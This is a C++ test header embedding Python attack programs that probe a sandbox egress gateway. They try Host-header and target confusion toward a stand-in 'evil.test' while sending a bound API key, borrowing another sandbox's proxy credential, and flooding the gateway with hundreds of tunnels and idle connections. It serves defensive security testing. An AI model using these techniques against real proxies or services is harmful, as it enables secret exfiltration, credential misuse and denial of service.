#pragma once

// The programs tst_gatewayattacks runs in allow-list sandboxes (a header of their own: moc does
// not read raw string literals well). Stock Python only: urllib, http.client, socket and ssl, as
// a program an attacker controls would use them. API_KEY holds the placeholder of a secret bound
// to world.test:<TLS port> and echo.test:<plain port>.

// What every program starts with: the gateway's address and the sandbox's own credential from
// HTTP_PROXY, a CONNECT by hand (`tunnel`), and reading until the end (`reply`). The test puts
// it before the programs that use it.
inline constexpr const char *kAttackPrelude = R"py(
import base64, http.client, json, os, socket, ssl, sys, time, urllib.error, urllib.parse, urllib.request
proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
auth = "Basic " + base64.b64encode(("%s:%s" % (proxy.username, proxy.password)).encode()).decode()
def tunnel(host, port):
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=15)
    s.sendall(("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\nProxy-Authorization: %s\r\n\r\n"
               % (host, port, host, port, auth)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(1)
        if not c:
            break
        head += c
    return s, head.split(b"\r\n")[0].decode()
def reply(s):
    data = b""
    while True:
        try:
            c = s.recv(65536)
        except (OSError, ssl.SSLError):
            break
        if not c:
            break
        data += c
    return data.decode(errors="replace")
)py";

// After kAttackPrelude. %1 the plain world's port (world.test, echo.test), %2 the TLS world's
// (world.test). Each probe
// of issue 53's list that a stock client can make, its outcome under its number.
inline constexpr const char *kHostAndTargetProgram = R"py(
PLAIN, TLS = %1, %2
key = os.environ["API_KEY"]
out = {}
def forward(host_header, target):
    c = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=15)
    c.putrequest("GET", target, skip_host=True, skip_accept_encoding=True)
    c.putheader("Host", host_header)
    c.putheader("Proxy-Authorization", auth)
    c.putheader("Authorization", "Bearer " + key)
    c.endheaders()
    r = c.getresponse()
    return "%d %s" % (r.status, r.read().decode()[:300])
# 1: a bound host's request with another site's Host; 6: the same to an unbound allowed host.
out["1"] = forward("evil.test", "http://echo.test:%d/h1" % PLAIN)
out["1-own"] = forward("echo.test:%d" % PLAIN, "http://echo.test:%d/h1-own" % PLAIN)
out["6"] = forward("evil.test", "http://world.test:%d/h6" % PLAIN)
# 3: inside the TLS the gateway terminates for the bound host, another site's absolute target.
s, status = tunnel("world.test", TLS)
t = ssl.create_default_context().wrap_socket(s, server_hostname="world.test")
t.sendall(("GET https://evil.test/h3 HTTP/1.1\r\nHost: world.test:%d\r\nAuthorization: Bearer %s"
           "\r\nConnection: close\r\n\r\n" % (TLS, key)).encode())
out["3"] = reply(t).split("\r\n")[0]
# 7: a plain tunnel to an allowed host whose request names another in its target.
s, status = tunnel("world.test", PLAIN)
s.sendall(("GET http://evil.test:%d/h7 HTTP/1.1\r\nHost: world.test:%d\r\n\r\n"
           % (PLAIN, PLAIN)).encode())
out["7"] = reply(s)[:200]
# 8: the value echoed in a header's name.
r = urllib.request.urlopen(urllib.request.Request("https://world.test:%d/h8" % TLS,
                           headers={"Authorization": "Bearer " + key}), timeout=15)
out["8"] = sorted(k for k in r.headers.keys() if k.lower().startswith("x-echo-"))
# 9: a chunked upload through a forward.
c = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=15)
c.request("POST", "http://world.test:%d/h9" % PLAIN, body=iter([b"hello", b" world"]),
          headers={"Proxy-Authorization": auth})
r = c.getresponse()
out["9"] = "%d %s" % (r.status, r.read().decode()[:200])
out["key"] = key
print(json.dumps(out))
)py";

// Prints its proxy URL (its credential), then waits, so that another sandbox can try it.
inline constexpr const char *kHoldCredentialProgram = R"py(
import json, os, sys, time
print(json.dumps({"proxy": os.environ["HTTP_PROXY"]}), flush=True)
time.sleep(12)
)py";

// %1 another running sandbox's proxy URL, %2 the plain world's port.
inline constexpr const char *kBorrowCredentialProgram = R"py(
import json, os, urllib.request, urllib.error
def get(proxy):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy}))
    try:
        return opener.open("http://world.test:%2/borrowed", timeout=15).read().decode()
    except urllib.error.HTTPError as e:
        return "HTTP %d" % e.code
print(json.dumps({"borrowed": get("%1"), "own": get(os.environ["HTTP_PROXY"])}))
)py";

// After kAttackPrelude. %1 the TLS world's port. 300 tunnels held open with TLS inside them (each
// one, spliced, was two threads of the gateway's), then 520 connections that send nothing; what
// each got, then a pause holding them all while another sandbox works.
inline constexpr const char *kFloodProgram = R"py(
TLS = %1
ctx = ssl._create_unverified_context()
tunnels, held = {}, []
for i in range(300):
    try:
        s, status = tunnel("world.test", TLS)
    except OSError as e:
        s, status = None, "ERR " + type(e).__name__
    code = status.split(" ")[1] if status.startswith("HTTP/") else status or "closed"
    tunnels[code] = tunnels.get(code, 0) + 1
    if s is not None and code == "200":
        try:
            held.append(ctx.wrap_socket(s, server_hostname="world.test"))
        except (OSError, ssl.SSLError) as e:
            tunnels["tls " + type(e).__name__] = tunnels.get("tls " + type(e).__name__, 0) + 1
idle = []
for i in range(520):
    try:
        idle.append(socket.create_connection((proxy.hostname, proxy.port), timeout=5))
    except OSError:
        pass
time.sleep(1)
refused = 0
for s in idle:
    s.setblocking(False)
    try:
        refused += s.recv(64).startswith(b"HTTP/1.1 429")
    except OSError:
        pass
print(json.dumps({"tunnels": tunnels, "held": len(held), "idle": len(idle),
                  "idle_refused": refused}), flush=True)
time.sleep(20)
)py";

// %1 the plain world's port: 25 requests, how many were answered.
inline constexpr const char *kWorkProgram = R"py(
import json, urllib.request
ok, errors = 0, []
for i in range(25):
    try:
        ok += urllib.request.urlopen("http://world.test:%1/work%d" % i, timeout=20).read().startswith(b"hello")
    except Exception as e:
        errors.append(type(e).__name__ + " " + str(e)[:100])
print(json.dumps({"ok": ok, "errors": errors[:3]}))
)py";
